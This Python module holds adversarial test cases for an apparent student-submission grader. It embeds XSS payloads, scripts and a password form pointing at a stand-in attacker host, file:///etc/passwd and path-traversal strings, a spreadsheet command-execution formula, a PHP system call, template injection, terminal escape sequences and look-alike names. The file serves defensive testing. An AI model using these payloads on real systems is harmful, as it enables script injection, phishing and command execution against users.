"""Attacks on readers of pages, tables and terminals, with the report, the student's name or the file name."""

import base64
import json
from collections.abc import Callable

from attacks.attack import RECIPE, Attack, Base, Expected, members_of, with_members

_GRADED = Expected(("graded",), gains_over="reference")
_PIXEL = base64.b64encode(
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"
).decode()

_HTML = """
<script>alert(1)</script><ScRiPt src=//wreck.example/x.js></sCrIpT>
<img src=x onerror=alert(2)><svg onload=alert(3)><svg><script>alert(4)</script></svg>
<iframe src="https://wreck.example"></iframe><object data="x.swf"></object><embed src=x>
<form action="https://wreck.example"><input name=password><button>Log in</button></form>
<meta http-equiv=refresh content="0; url=https://wreck.example"><base href="https://wreck.example/">
<a href="javascript:alert(5)" onclick="alert(6)">x</a><details ontoggle=alert(7) open>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(9)>"></noscript><!--><img src=x onerror=alert(10)>-->
</p></td></table></div></section></main></body></html><script>alert(11)</script>
<![CDATA[<script>alert(12)</script>]]><?php system("id"); ?><%= 7 * 7 %>{{ 7 * 7 }}{% raw %}${7*7}
"""
_LINKS = """
[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](java&#115;cript:alert(3)) [d](java\tscript:alert(4))
[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [f](vbscript:x)
[g](//wreck.example) [h](../../scores.json)
[i](file:///etc/passwd) [j]( javascript:alert(5)) <javascript:alert(6)> <https://wreck.example/"onmouseover="alert(7)>
[k][ref] [l](blob:x) [m](https://a"onclick="alert(8)) [n](<javascript:alert(9)>) [o](\\x01javascript:alert(10))

[ref]: javascript:alert(11) "onclick=alert(12)"
"""
_PICTURES = f"""
![a](https://wreck.example/a.png) ![b](//wreck.example/b.png) ![c](http:wreck.example/c.png) ![d][p]
![e](data:image/svg+xml;base64,{_PIXEL}) ![f](data:text/html;base64,{_PIXEL}) ![g](x"onerror="alert(1))
![h](file:///etc/passwd) ![i](embedded-picture-0) ![j](embedded-picture-99) ![k](javascript:alert(1))
<img srcset="https://wreck.example/d.png 2x"> ![</figcaption><script>alert(1)</script>](data:image/png;base64,AAAA)

[p]: https://wreck.example/e.png
"""
_STYLES = """
</style><style>@import url(https://wreck.example/x.css); body { display: none }</style>
<link rel=stylesheet href=https://wreck.example/x.css>
<div style="position:fixed;inset:0;background:url(//wreck.example)">
<p class="total" id="total">100 of 100</p> <span style=color:expression(alert(1))>x</span>
"""
_HIDDEN = (
    "It was \x1b[2J\x1b]0;owned\x07\x1b[8m\u009b31m \u202e001\u202c \u2066x\u2069"
    " \u200b\u2060\ufeff\x00\x08\r done \U000e0041\n"
)
# Lines of the log at places that the page does not show. Points for them would be points for an invisible text.
_UNSEEN = {
    "reference": "[x]: https://x.example '{}'",
    "title": "[x](https://x.example '{}')",
    "target": "[x](<https://x.example/{}>)",
    "description": "![{}](x.png)",
    "label": "[x][{0}]\n\n[{0}]: /x",
    "language": "```{}\n```",
    "nesting": "> " * 30 + "{}",
}
_ADA = "\u0430d\u0430"
_STUDENTS = {
    "equals": "=1+1",
    "program": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "at": "@SUM(1;1)",
    "blank": "  =1+1",
    "quoted": '"=1+1',
    "semicolon": "ada;=1+1",
    "full_width": "\uff1d1+1",
    "html": "<img src=x onerror=alert(1)>",
    "attribute": "\"onmouseover=alert(1) x='",
    "template": "{{ 7 * 7 }}{% for x in y %}",
    "accents": "a" + "\u0301\u0323" * 31,
    "markup": "[bold red]ada[/] :smiley:",
    "path": "../../../etc/passwd",
    "heading": "    Points Possible",
}
# File names as some learning platforms deliver them: unchanged from the student's browser.
_FILES = {
    "html": f"<img src=x onerror=alert(1)>_{RECIPE}.tar.gz",
    "formula": f"=1+1_{RECIPE}.tar.gz",
    "escapes": f"\x1b[2J\x1b]0;x\x07\u009b31m_{RECIPE}.tar.gz",
    "newline": f"ada\n0 rejected\nNext: rm -rf_{RECIPE}.tar.gz",
    "backwards": f"\u202eada_{RECIPE}.tar.gz",
    "not_utf8": f"\udcff\udcfe_{RECIPE}.tar.gz",
    "longest": "x" * 248 + ".tar.gz",
    "option": f"--fresh_{RECIPE}.tar.gz",
    "index": "index.tar.gz",
    "dots": "...tar.gz",
    "nothing": ".tar.gz",
    "device": "con.tar.gz",
    "escaped": f"\\xff\\xfe_{RECIPE}.tar.gz",
    "near": f"ada_huge_l\x1b[2J_{RECIPE}.tar.gz",
}


def with_body(base: Base, body: str) -> bytes:
    """Return the correct fix with another text below the front matter of its report."""
    front = members_of(base.reference)["report.md"].decode().split("---\n")[1]
    report = f"---\n{front}---\n{body}".encode("utf-8", "surrogatepass")
    return with_members(base.reference, {"report.md": report}, student="x")


def _report(body: str) -> Callable[[Base], bytes]:
    return lambda base: with_body(base, body)


def _unseen(form: str) -> Callable[[Base], bytes]:
    def build(base: Base) -> bytes:
        record = json.loads(members_of(base.reference)["runs/broken/metrics.log"].split(b"\n")[0])
        line = form.format(f"grad_norm {record['grad_norm']}")
        return with_body(base, "".join(f"# Part {n}\n\n{line}\n\n" for n in range(4)))

    return build


def _named(student: str) -> Callable[[Base], bytes]:
    return lambda base: with_members(base.reference, {}, student=student)


def _source(base: Base) -> bytes:
    """Comments in the experiment, which the page shows. The program equals the correct fix, so it needs no replay."""
    comment = f"# {_HTML}{_STYLES}{_HIDDEN}".replace("\n", "\n# ").replace("\r", "").replace("\0", "")
    source = members_of(base.reference)["experiment.py"] + f"{comment}\n".encode()
    return with_members(base.reference, {"experiment.py": source}, student="x")


def _ignored(base: Base) -> bytes:
    """Names of unexpected files, which the page lists."""
    names = ("<script>alert(1)<script>", "=1+1", "{{ 7 * 7 }}", "x" * 200, "'\"><img src=x onerror=alert(1)>")
    return with_members(base.reference, dict.fromkeys(names, b"x"), student="x")


def _said(base: Base) -> bytes:
    """An error message with all of the texts above, which the page quotes. The run ends at once."""
    message = repr(_HTML + _STYLES + _HIDDEN + "\n=1+1" + "x" * 5000)
    source = f"raise ValueError({message})\n".encode() + members_of(base.reference)["experiment.py"]
    return with_members(base.untouched, {"experiment.py": source}, student="x")


ATTACKS = (
    Attack("report_html", "reader", "HTML of every kind that acts, in the report", _GRADED, _report(_HTML)),
    Attack("report_links", "reader", "links that run or read something", _GRADED, _report(_LINKS)),
    Attack("report_pictures", "reader", "pictures from elsewhere, and SVG", _GRADED, _report(_PICTURES)),
    Attack("report_styles", "reader", "style sheets in the report", _GRADED, _report(_STYLES)),
    Attack("report_hidden", "reader", "escapes and marks of direction in the report", _GRADED, _report(_HIDDEN)),
    Attack("source_html", "reader", "HTML and escapes in comments of the experiment", _GRADED, _source),
    Attack("ignored_names", "reader", "HTML and formulas as names of files in the archive", _GRADED, _ignored),
    Attack("error_html", "reader", "HTML, escapes and formulas in an error's message",
        Expected(("graded",), "did not finish"), _said),
    Attack("impostor", "reader", "another student's name in the manifest",
        Expected(("graded",), "The manifest names ada"),
        lambda base: with_members(base.untouched, {}, student="ada")),
    Attack("same_student", "reader", "a second tarball in the name of ada", Expected(("graded",), "ada_huge_lr counts"),
        lambda base: with_members(base.untouched, {}, student="ada"), file_name="x_1_ada_huge_lr.tar.gz"),
    Attack("look_alike", "reader", "a student called ada in Cyrillic letters",
        Expected(("graded",), "looks like 'ada'"),
        lambda base: with_members(base.untouched, {}, student=_ADA), file_name=f"{_ADA}_huge_lr.tar.gz"),
    Attack("look_alike_rejected", "reader", "the same, and no archive",
        Expected(("rejected",), "looks like 'ada'"), lambda _: b"", file_name="\u0430da_huge_lr.tar.gz"),
    *(Attack(f"unseen_{what}", "reader", f"a line of the log in a report's {what}",
        Expected(("graded",), "contains neither a plot nor lines of a log", "reference"), _unseen(form))
        for what, form in _UNSEEN.items()),
    *(Attack(f"student_{what}", "reader", f"a student called {name}", _GRADED, _named(name))
        for what, name in _STUDENTS.items()),
    *(Attack(f"file_{what}", "reader", f"a file's name: {what}", _GRADED, _named("x"), file_name=name)
        for what, name in _FILES.items()),
)  # fmt: skip
